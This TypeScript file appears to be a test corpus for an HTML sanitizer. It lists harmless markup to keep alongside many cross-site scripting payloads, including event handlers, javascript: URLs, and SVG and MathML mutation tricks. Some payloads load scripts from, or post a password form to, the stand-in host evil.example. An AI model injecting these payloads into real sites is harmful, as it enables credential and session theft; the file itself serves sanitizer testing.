/** One category of attack, with similar markup that operators use and that must be kept. */
export interface Attack {
  readonly kind: string;
  readonly friendly: string;
  /** Selector of what must remain of the friendly markup. */
  readonly keeps: string;
  readonly hostile: readonly string[];
}

const run = 'alert(1)';
const img = `<img src=x onerror=${run}>`;

/** Attacks that browsers interpret as more than text. */
export const attacks: readonly Attack[] = [
  {
    kind: 'handlers on images',
    friendly: '<img src="https://cdn.example/a.png" alt="bonus" width="120">',
    keeps: 'img[src="https://cdn.example/a.png"][alt="bonus"][width="120"]',
    hostile: [
      img,
      `<img src="x" ONERROR="${run}">`,
      `<img/src/onerror=${run}>`,
      `<image src=x onerror=${run}>`,
      `<img src=x onload=${run} alt="a">`,
      `<img """><img src=x onerror=${run}>">`,
      `<img src="data:text/html,<script>${run}</script>">`,
      '<img src="data:image/svg+xml,<svg/>">',
      `<img src="javascript:${run}">`,
    ],
  },
  {
    kind: 'scripts',
    friendly: '<p>script of the show</p>',
    keeps: 'p',
    hostile: [
      `<script>${run}</script>`,
      `<SCRIPT SRC=//evil.example/a.js></SCRIPT>`,
      `<script/x>${run}</script>`,
      `<script type="module">${run}</script>`,
      `<scr<script>ipt>${run}</script>`,
      `<p><script>${run}`,
    ],
  },
  {
    kind: 'handlers on text',
    friendly: '<p title="note">text <b>bold</b> <i>slanted</i></p>',
    keeps: 'p[title="note"] > b',
    hostile: [
      `<p onclick=${run}>a</p>`,
      `<b onpointerenter="${run}">a</b>`,
      `<details open ontoggle=${run}><summary>a</summary></details>`,
      `<div onfocusin=${run}>a</div>`,
      `<marquee onstart=${run}>a</marquee>`,
      `<p onanimationend="${run}" style="animation: a 1s">a</p>`,
      `<h1 onbeforetoggle=${run}>a</h1>`,
    ],
  },
  {
    kind: 'links',
    friendly: '<a href="https://rules.example/a?b=1">rules</a>',
    keeps: 'a[href="https://rules.example/a?b=1"]',
    hostile: [
      `<a href="javascript:${run}">a</a>`,
      `<a href="java\tscript:${run}">a</a>`,
      `<a href=" \u0001javascript:${run}">a</a>`,
      `<a href="&#106;avascript:${run}">a</a>`,
      `<a href="javascript&colon;${run}">a</a>`,
      `<a href="vbscript:msgbox(1)">a</a>`,
      `<a href="data:text/html,<script>${run}</script>">a</a>`,
      '<a href="/user/withdraw">a</a>',
      '<a href="//evil.example">a</a>',
      '<a ping="https://evil.example" href="blob:https://a.example/1">a</a>',
    ],
  },
  {
    kind: 'pictures drawn in SVG',
    friendly: '<p>1 &lt; 2 <sup>a</sup></p>',
    keeps: 'p > sup',
    hostile: [
      `<svg onload=${run}>`,
      `<svg><script>${run}</script></svg>`,
      `<svg><a xlink:href="javascript:${run}"><text>a</text></a></svg>`,
      `<svg><animate onbegin=${run} attributeName=x></svg>`,
      `<svg><foreignObject>${img}</foreignObject></svg>`,
      `<svg><use href="data:image/svg+xml,<svg id='a'/>#a"/></svg>`,
      `<svg><set attributeName="href" to="javascript:${run}"/></svg>`,
      `<svg><style>@import "//evil.example"</style></svg>`,
    ],
  },
  {
    kind: 'formulas in MathML',
    friendly: '<p>2 × 2 = <var>4</var></p>',
    keeps: 'p > var',
    hostile: [
      `<math href="javascript:${run}">a</math>`,
      `<math><mtext>${img}</mtext></math>`,
      `<math><maction actiontype="statusline#" xlink:href="javascript:${run}">a</maction></math>`,
      `<math><annotation-xml encoding="text/html">${img}</annotation-xml></math>`,
    ],
  },
  {
    kind: 'markup that changes when it is parsed again',
    friendly: '<table width="100%"><tbody><tr><td colspan="2" align="center">cell</td></tr></tbody></table>',
    keeps: 'table[width="100%"] td[colspan="2"][align="center"]',
    hostile: [
      `<math><mtext><table><mglyph><style><!--</style>${img}--></style></mglyph></table></mtext></math>`,
      `<svg></p><style><a title="</style>${img}">`,
      `<noscript><p title="</noscript>${img}">`,
      `<form><math><mtext></form><form><mglyph><style></math>${img}`,
      `<svg><p><style><g title="</style>${img}">`,
      `<xmp><p title="</xmp>${img}">`,
      `<noembed><p title="</noembed>${img}">`,
      `<textarea><p title="</textarea>${img}">`,
      `<title><p title="</title>${img}">`,
      `<select><style></select>${img}</style>`,
      `<table><caption><svg><desc>${img}</desc></svg></caption></table>`,
    ],
  },
  {
    kind: 'styles of an element',
    friendly: '<p style="color: red">red</p>',
    keeps: 'p[data-style="color: red"]',
    hostile: [
      '<p style="background: url(https://evil.example/a)">a</p>',
      `<p style="background: url('javascript:${run}')">a</p>`,
      '<p style="position: fixed; inset: 0">a</p>',
      '<p style="width: expression(1)">a</p>',
      '<p style="behavior: url(#a)">a</p>',
    ],
  },
  {
    kind: 'sheets of styles',
    friendly: '<h2>style of play</h2>',
    keeps: 'h2',
    hostile: [
      '<style>body { display: none }</style>',
      '<style>@import url(//evil.example/a.css);</style>',
      '<link rel="stylesheet" href="//evil.example/a.css">',
      '<style><!-- </style>a',
    ],
  },
  {
    kind: 'sources of pictures',
    friendly: '<img src="https://cdn.example/a.png" alt="">',
    keeps: 'img[src]',
    hostile: [
      '<img srcset="//evil.example/a 2x">',
      '<picture><source srcset="//evil.example/a"><img></picture>',
      '<video poster="javascript:alert(1)"></video>',
      '<audio src=x onerror=alert(1)>',
      '<input type="image" src="//evil.example/a">',
      '<table background="javascript:alert(1)"><tr><td>a</td></tr></table>',
    ],
  },
  {
    kind: 'forms',
    friendly: '<ol start="2"><li>Fill in the form</li></ol>',
    keeps: 'ol[start="2"] > li',
    hostile: [
      '<form action="https://evil.example"><input name="password"></form>',
      '<button formaction="javascript:alert(1)">a</button>',
      '<input autofocus onfocus=alert(1)>',
      '<select autofocus onfocus=alert(1)><option>a</select>',
      '<textarea autofocus onfocus=alert(1)></textarea>',
      '<isindex type=image src=1 onerror=alert(1)>',
      '<keygen autofocus onfocus=alert(1)>',
      '<label for="wallet">a</label>',
    ],
  },
  {
    kind: 'pages inside the page',
    friendly: '<blockquote>from another page</blockquote>',
    keeps: 'blockquote',
    hostile: [
      '<iframe src="https://evil.example"></iframe>',
      '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
      '<object data="javascript:alert(1)"></object>',
      '<embed src="javascript:alert(1)">',
      '<portal src="https://evil.example"></portal>',
      '<applet code="a"></applet>',
    ],
  },
  {
    kind: 'the page itself',
    friendly: '<div>about <em>this</em> page</div>',
    keeps: 'div > em',
    hostile: [
      '<meta http-equiv="refresh" content="0;url=https://evil.example">',
      '<base href="https://evil.example/">',
      '<body onload=alert(1)>',
      '<html onmouseover=alert(1)>',
      '<dialog open>your password, please</dialog>',
      '<template><img src=x onerror=alert(1)></template>',
      '<template shadowrootmode="open"><script>alert(1)</script></template>',
      '<plaintext>all that follows',
    ],
  },
  {
    kind: 'comments and declarations',
    friendly: '<p>a &amp;lt;!-- b --&amp;gt; c</p>',
    keeps: 'p',
    hostile: [
      '<!-- a -->',
      `<!--><img src=x onerror=${run}>-->`,
      `<!-- --!><img src=x onerror=${run}> -->`,
      '<!--[if IE]><script>alert(1)</script><![endif]-->',
      '<?xml version="1.0"?>',
      '<![CDATA[<script>alert(1)</script>]]>',
    ],
  },
  {
    kind: 'names that the scripts of the page look for',
    friendly: '<p lang="lo" dir="ltr">ສະບາຍດີ</p>',
    keeps: 'p[lang="lo"][dir="ltr"]',
    hostile: [
      '<p id="root">a</p>',
      '<a name="location" href="https://a.example">a</a>',
      '<img name="cookie" src="https://a.example/a.png">',
      '<p class="toast">a</p>',
      '<p data-testid="balance">a</p>',
      '<p aria-hidden="true">a</p>',
      '<div popover id="a">a</div>',
      '<b is="x-y">a</b>',
      '<p slot="a">a</p>',
      '<p contenteditable>a</p>',
      '<x-balance>a</x-balance>',
    ],
  },
];
